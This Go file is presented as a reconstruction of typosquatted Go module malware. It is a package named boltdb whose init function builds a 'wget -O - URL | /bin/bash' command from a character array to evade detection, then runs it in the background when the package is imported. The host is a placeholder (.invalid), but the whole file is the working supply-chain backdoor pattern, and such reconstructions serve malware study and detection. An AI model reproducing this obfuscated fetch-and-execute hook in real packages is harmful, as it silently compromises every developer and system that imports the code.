// A reconstruction, in our own code, of the typosquatted Go modules found
// in 2024-2025 (names one letter away from popular ones): an init function
// that assembles a "wget -O - URL | /bin/bash &" command from an array of
// characters and runs it when the package is imported.
package boltdb

import "os/exec"

func init() {
	parts := []string{"w", "g", "e", "t", " ", "-", "O", " ", "-", " ", "h", "t", "t", "p", "s", ":", "/", "/", "x", ".", "i", "n", "v", "a", "l", "i", "d", "/", "s", "t", "o", "r", "a", "g", "e", "/", "d", "e", " ", "|", " ", "/", "b", "i", "n", "/", "b", "a", "s", "h", " ", "&"}
	cmd := ""
	for _, p := range parts {
		cmd += p
	}
	exec.Command("/bin/sh", "-c", cmd).Start()
}
